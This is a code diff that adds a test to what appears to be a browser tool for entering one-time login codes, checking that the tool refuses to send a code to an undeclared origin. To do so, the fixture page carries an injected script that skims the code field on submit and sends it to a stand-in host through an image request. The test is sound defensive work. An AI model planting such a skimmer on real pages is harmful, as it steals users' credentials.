@@ -144,6 +144,23 @@ def test_a_code_is_sent_once_and_is_accepted(tried: Tried, shape: str) -> None:
                 assert not [one for secret in (text, site.password) for one in forms(secret) if one in inner], path
 
 
+def test_a_code_goes_to_no_undeclared_origin(runner: asyncio.Runner, mapped: Browser, tmp_path: Path) -> None:
+    with serving() as stranger, door("one field") as (site, made, text):
+        there = f"http://inside.example:{stranger.server_port}/seen.gif?c="
+        told = (
+            f"<script>document.querySelector('form').onsubmit = e => {{ new Image().src = '{there}'"
+            " + document.querySelector('[name=code]').value }</script>"
+        )
+        shape = SHAPES["one field"] + told
+        site.acts["/second"] = lambda handler: (
+            made.second(handler) if handler.command == "POST" else handler.answer(HEAD + "<body>" + shape)
+        )
+        capture, _ = Tried(runner, mapped, tmp_path)(site, text)
+        assert stranger.seen == []
+        assert [(view.outcome, view.why) for view in capture.views] == [("observed", "")]
+        assert any("credentials towards http://inside.example" in one for one in capture.warnings), capture.warnings
+
+
 def test_a_wrong_secret_is_refused_with_what_the_clocks_say(tried: Tried) -> None:
     with door("one field") as (site, made, _):
         capture, stage = tried(site, base64.b32encode(secrets.token_bytes(20)).decode())
